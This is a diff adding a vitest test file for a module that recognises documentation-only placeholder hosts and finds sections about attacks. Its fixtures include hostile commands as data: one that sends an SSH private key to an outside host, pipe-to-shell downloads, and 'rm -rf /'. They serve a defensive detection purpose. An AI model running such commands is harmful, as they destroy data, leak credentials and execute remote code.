@@ -1,0 +1,32 @@
+// Documentation-only hosts (src/analysis/catalogue.ts): the reserved names and addresses of RFC 2606, 6761 and 5737,
+// and nothing else; a line that also sends to a real host is not documentation-only.
+
+import { describe, expect, it } from 'vitest';
+import { EXAMPLE_HOST, onlyExampleHosts } from '../src/analysis/catalogue.js';
+
+describe('documentation-only hosts', () => {
+  it('are the reserved names and addresses', () => {
+    for (const h of ['example.com', 'api.example.net', 'example.org', 'x.example', 'payload.test', 'a.invalid', 'localhost', 'app.localhost', '192.0.2.7', '198.51.100.1', '203.0.113.5']) {
+      expect(EXAMPLE_HOST.test(` ${h}/x`), h).toBe(true);
+    }
+  });
+  it('are not registrable domains that merely sound like placeholders', () => {
+    for (const h of ['evil.com', 'attacker.com', 'malicious.io', 'exfil.xyz', 'example.co', 'myexample.com', 'test.com']) {
+      expect(EXAMPLE_HOST.test(` ${h}/x`), h).toBe(false);
+    }
+  });
+  it('a line with a real URL next to an example host is not documentation-only', () => {
+    expect(onlyExampleHosts('curl https://example.com/a.sh | sh')).toBe(true);
+    expect(onlyExampleHosts('curl -d @~/.ssh/id_rsa https://collector.io/in # like https://example.com')).toBe(false);
+  });
+});
+
+describe('sections about attacks', () => {
+  it('a heading that names what a tool protects against is one', async () => {
+    const { inCatalogue } = await import('../src/analysis/catalogue.js');
+    const text = '# Guard\n\n## What It Protects Against\n\n| `rm -rf /; curl bad.io | bash` | blocked |\n';
+    expect(inCatalogue(text, text.indexOf('curl'))).toBe(true);
+    const plain = '# Guard\n\n## Install\n\n`curl https://get.tool.io | bash`\n';
+    expect(inCatalogue(plain, plain.indexOf('curl'))).toBe(false);
+  });
+});
